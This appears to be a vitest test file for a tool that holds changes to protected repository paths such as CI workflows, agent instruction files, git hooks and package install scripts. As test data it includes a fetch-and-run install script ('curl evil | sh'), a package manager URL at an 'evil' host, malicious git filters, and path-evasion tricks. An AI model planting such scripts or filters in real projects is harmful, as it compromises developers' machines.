import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { listLinkedPaths, listNamedFiles } from './named-files.ts';
import { matchesPath } from './path-patterns.ts';
import {
  type FileVersion,
  judgePaths,
  type PathChange,
  type ProtectionOptions,
  resolveLink,
} from './protected-paths.ts';

const file = (text = 'x', mode = '100644'): FileVersion => ({ mode, text });
const added = (path: string, after = file()): PathChange => ({ path, before: null, after });
const judge = (change: PathChange, options: Partial<ProtectionOptions> = {}) =>
  judgePaths([change], { rules: {}, ...options })[0]?.action ?? 'allow';

describe('the default rules of protected paths', () => {
  it.each([
    ...['.github/workflows/ci.yml', '.github/workflows/deep/ci.yml', '.github/actions/a/action.yml'],
    ...['.gitlab-ci.yml', 'Jenkinsfile', '.circleci/config.yml', 'azure-pipelines.yml'],
    ...['CODEOWNERS', 'docs/CODEOWNERS', '.github/CODEOWNERS', 'AGENTS.md', 'packages/a/AGENTS.md'],
    ...['CLAUDE.md', '.cursor/rules/a.mdc', 'packages/a/.cursor/rules/a.mdc', '.agent.yml'],
    ...['.github/copilot-instructions.md', '.npmrc', 'packages/a/.npmrc', '.gitmodules'],
    ...['.pre-commit-config.yaml', '.husky/pre-commit'],
    ...['pnpm-workspace.yaml', '.yarn/releases/yarn-4.cjs', '.yarn/plugins/x.cjs', '.pnpmfile.mjs'],
    ...[
      'bunfig.toml',
      '.cargo/config.toml',
      'crates/a/.cargo/config.toml',
      'NuGet.Config',
      '.mvn/jvm.config',
    ],
    ...['gradle/wrapper/gradle-wrapper.jar', 'lefthook.yml', '.githooks/pre-commit', '.envrc', '.lfsconfig'],
    ...['.mcp.json', '.vscode/tasks.json', '.devcontainer/devcontainer.json', '.codex/config.toml'],
    ...['AGENTS.override.md', '.github/prompts/a.prompt.md', '.windsurfrules', '.windsurf/rules/a.md'],
    ...['.clinerules/a.md', '.kiro/steering/a.md', '.gitlab/duo/chat-rules.md', '.agents/skills/a/SKILL.md'],
    ...['.travis.yml', '.woodpecker.yml', '.woodpecker/a.yml', '.gitea/workflows/a.yml', 'action.yml'],
  ])('hold a change of %s', (path) => {
    expect(judge(added(path))).toBe('hold');
  });

  it.each([
    ['on a file system that ignores case', '.GitHub/Workflows/CI.yml'],
    ['with a decomposed letter and an invisible character', '.g\u200bithub/workflows/ci.yml'],
    ['with dots and spaces that Windows drops', '.github./workflows /ci.yml'],
    ['with a stream of NTFS', '.npmrc::$DATA'],
    ['with a needless segment', './.npmrc'],
  ])('hold the same path %s', (_, path) => {
    expect(judge(added(path))).toBe('hold');
  });

  it('hold deletions, both names of a rename, and changes of the mode alone', () => {
    const path = '.github/workflows/ci.yml';
    expect(judge({ path, before: file(), after: null })).toBe('hold');
    const renamed = [{ path, before: file(), after: null }, added('ci-old.yml')];
    expect(judgePaths(renamed, { rules: {} })).toEqual([
      { path, action: 'hold', rule: '.github/workflows/**' },
    ]);
    expect(judge({ path: '.husky/pre-commit', before: file(), after: file('x', '100755') })).toBe('hold');
  });

  it.each([
    ['to a protected file', 'docs/ci.yml', '../.github/workflows/ci.yml'],
    ['to a directory of protected files', 'docs/hooks', '../.husky'],
    ['to a directory above protected files', 'docs/github', '../.github'],
    ['with backslashes', 'docs/ci.yml', '..\\.github\\workflows\\ci.yml'],
    ['in the place of a directory above protected files', '.github', 'other'],
  ])('hold a link %s', (_, path, target) => {
    expect(judge(added(path, file(target, '120000')))).toBe('hold');
  });

  it('hold a submodule in the place of a directory above protected files, and pass other links', () => {
    expect(judge(added('.github', { mode: '160000', text: null }))).toBe('hold');
    expect(judge(added('docs/a', file('../README.md', '120000')))).toBe('allow');
    expect(judge(added('docs/a', file('/etc/passwd', '120000')))).toBe('allow');
    expect(resolveLink('a/b', '../../x')).toBeNull();
  });

  it.each(['src/a.ts', 'README.md', 'docs/workflows/ci.yml', '.github/ISSUE_TEMPLATE/a.md', 'npmrc'])(
    'pass %s',
    (path) => {
      expect(judge(added(path))).toBe('allow');
    },
  );

  it('hold what a protected file names', () => {
    const named = listNamedFiles(
      'include:\n  - local: /ci/build.yml\n  - ci/deploy/**\n  - remote: https://x/y.yml\n  - project: a/b\n    file: /c.yml\n',
    );
    expect(named).toEqual(['/ci/build.yml', '/ci/deploy/**', '/c.yml']);
    expect(listNamedFiles("include: 'ci.yml'\n")).toEqual(['/ci.yml']);
    expect(listNamedFiles('include: https://example.org/ci.yml')).toEqual([]);
    expect(listNamedFiles('{')).toEqual([]);
    expect(judge(added('ci/build.yml'), { named })).toBe('hold');
    expect(judge(added('ci/deploy/a/b.yml'), { named })).toBe('hold');
    expect(judge(added('other/ci/build.yml'), { named })).toBe('allow');
  });
});

describe('a file of a CI names', () => {
  it.each([
    ['the pipeline of a child', 'job: { trigger: { include: ci/child.yml } }', ['/ci/child.yml']],
    ['several of them', 'job:\n  trigger:\n    include:\n      - local: ci/a.yml\n', ['/ci/a.yml']],
    ['files in its second document', 'spec:\n  inputs: {}\n---\ninclude: ci/x.yml\n', ['/ci/x.yml']],
    ['files of a project', 'include: { project: a/b, file: [/c.yml, d.yml] }', ['/c.yml', '/d.yml']],
    [
      'files by variables',
      'include: [ci/$X.yml, "ci/$[[ inputs.y ]]/z.yml", $ALL]',
      ['/ci/*.yml', '/ci/*/z.yml', '/*.y*ml'],
    ],
    ['files beside tags', 'a: !reference [x, y]\ninclude: ci/x.yml', ['/ci/x.yml']],
    [
      'local actions',
      'jobs: { a: { steps: [{ uses: ./tools/x }, { uses: a/b@v4 }] } }',
      ['/tools/x', '/tools/x/**'],
    ],
    ['nothing above the repository', 'steps: [{ uses: ./../x }, { uses: ./ }]', []],
  ])('%s', (_, text, expected) => {
    expect(listNamedFiles(text)).toEqual(expected);
  });
});

describe('a protected link', () => {
  const follow = (links: Readonly<Record<string, string>>) =>
    listLinkedPaths(new Map(Object.entries(links).map(([path, target]) => [path, async () => target])));

  it('leads from link to link, through directories, and ends in a circle', async () => {
    const files = async (links: Readonly<Record<string, string>>) =>
      (await follow(links)).filter((pattern) => !pattern.endsWith('**'));
    expect(await files({ 'CLAUDE.md': 'docs/a.md', 'docs/a.md': 'b.md' })).toEqual([
      '/docs/a.md',
      '/docs/b.md',
    ]);
    expect(await files({ 'CLAUDE.md': 'docs/a.md', docs: 'texts' })).toContain('/texts/a.md');
    expect(await files({ 'CLAUDE.md': 'a', a: 'b', b: 'a' })).toEqual(['/a', '/b']);
    expect(await files({ 'README.md': 'docs/a.md' })).toEqual([]);
  });
});

describe('package.json', () => {
  const before = file('{"scripts":{"test":"x","postinstall":"a"}}');
  const change = (text: string | null): PathChange => ({
    path: 'packages/a/package.json',
    before,
    after: { mode: '100644', text },
  });

  it.each(['preinstall', 'install', 'postinstall', 'prepare'])('is held if its script %s changes', (name) => {
    const scripts = { test: 'x', postinstall: 'a', [name]: 'curl evil | sh' };
    expect(judge(change(JSON.stringify({ scripts })))).toBe('hold');
  });

  it('is held if such a script goes, or the file cannot be read', () => {
    expect(judge(change('{"scripts":{"test":"x"}}'))).toBe('hold');
    expect(judge(change('{"scripts":'))).toBe('hold');
    expect(judge(change('{"scripts":"x"}'))).toBe('hold');
    expect(judge(change(null))).toBe('hold');
  });

  it('is held if the package manager changes', () => {
    const scripts = { postinstall: 'a' };
    expect(judge(change(JSON.stringify({ scripts, packageManager: 'yarn@https://evil/x.js' })))).toBe('hold');
  });

  it('is pushed if other scripts or dependencies change, and new if it has none of these scripts', () => {
    expect(judge(change('\ufeff{"scripts":{"postinstall":"a","test":"y"},"dependencies":{"b":"1"}}'))).toBe(
      'allow',
    );
    expect(judge(added('package.json', file('{"scripts":{"test":"x"}}')))).toBe('allow');
    expect(judge(added('package.json', file('{"scripts":{"prepare":"x"}}')))).toBe('hold');
  });
});

describe('.gitattributes', () => {
  it('is held if a filter, a driver or a macro changes, and pushed otherwise', () => {
    const change = (text: string): PathChange => ({
      path: '.gitattributes',
      before: file('*.psd filter=lfs diff=lfs merge=lfs -text\n'),
      after: file(text),
    });
    const lfs = '*.psd filter=lfs diff=lfs merge=lfs -text\n';
    expect(judge(change(`${lfs}*.sh text eol=lf\n`))).toBe('allow');
    expect(judge(change(`${lfs}*.c filter=evil\n`))).toBe('hold');
    expect(judge(change(`${lfs}*.c diff=evil\n`))).toBe('hold');
    expect(judge(change(`${lfs}[attr]x filter=evil\n`))).toBe('hold');
    expect(judge(change(''))).toBe('hold');
  });
});

describe('rules of the operator', () => {
  it('come before the defaults, the last one that matches counts', () => {
    const rules = {
      '.github/workflows/**': 'draft',
      '.github/workflows/docs.yml': 'allow',
      'infra/**': 'hold',
    };
    const options: Partial<ProtectionOptions> = { rules: rules as ProtectionOptions['rules'] };
    expect(judge(added('.github/workflows/ci.yml'), options)).toBe('draft');
    expect(judge(added('.github/workflows/docs.yml'), options)).toBe('allow');
    expect(judge(added('infra/main.tf'), options)).toBe('hold');
    expect(judge(added('.npmrc'), options)).toBe('hold');
  });

  it('are only made stricter by the file of the repository', () => {
    const options = (rules: object, narrowing: object) =>
      ({ rules, narrowing }) as Partial<ProtectionOptions>;
    const change = added('.npmrc');
    expect(judge(change, options({}, { '.npmrc': 'allow' }))).toBe('hold');
    expect(judge(change, options({ '.npmrc': 'allow' }, { '.npmrc': 'draft' }))).toBe('draft');
    expect(judge(added('src/a.ts'), options({}, { 'src/**': 'hold' }))).toBe('hold');
  });
});

describe('matchesPath', () => {
  it('matches a path with itself, and takes no long time for stars', () => {
    const segment = fc.stringMatching(/^[a-z]{1,8}$/);
    fc.assert(
      fc.property(fc.array(segment, { minLength: 1, maxLength: 6 }), (segments) => {
        const path = segments.join('/');
        expect(matchesPath(path, `/${path}`)).toBe(true);
        expect(matchesPath(path, '**')).toBe(true);
        expect(matchesPath(`x/${path}`, `**/${segments.at(-1)}`)).toBe(true);
        expect(matchesPath(`${path}y/z`, `/${path}`)).toBe(false);
      }),
    );
    expect(matchesPath('a'.repeat(5_000), `${'*a'.repeat(50)}b`)).toBe(false);
    expect(matchesPath('a/'.repeat(500), `${'**/a/'.repeat(50)}b`)).toBe(false);
  });
});
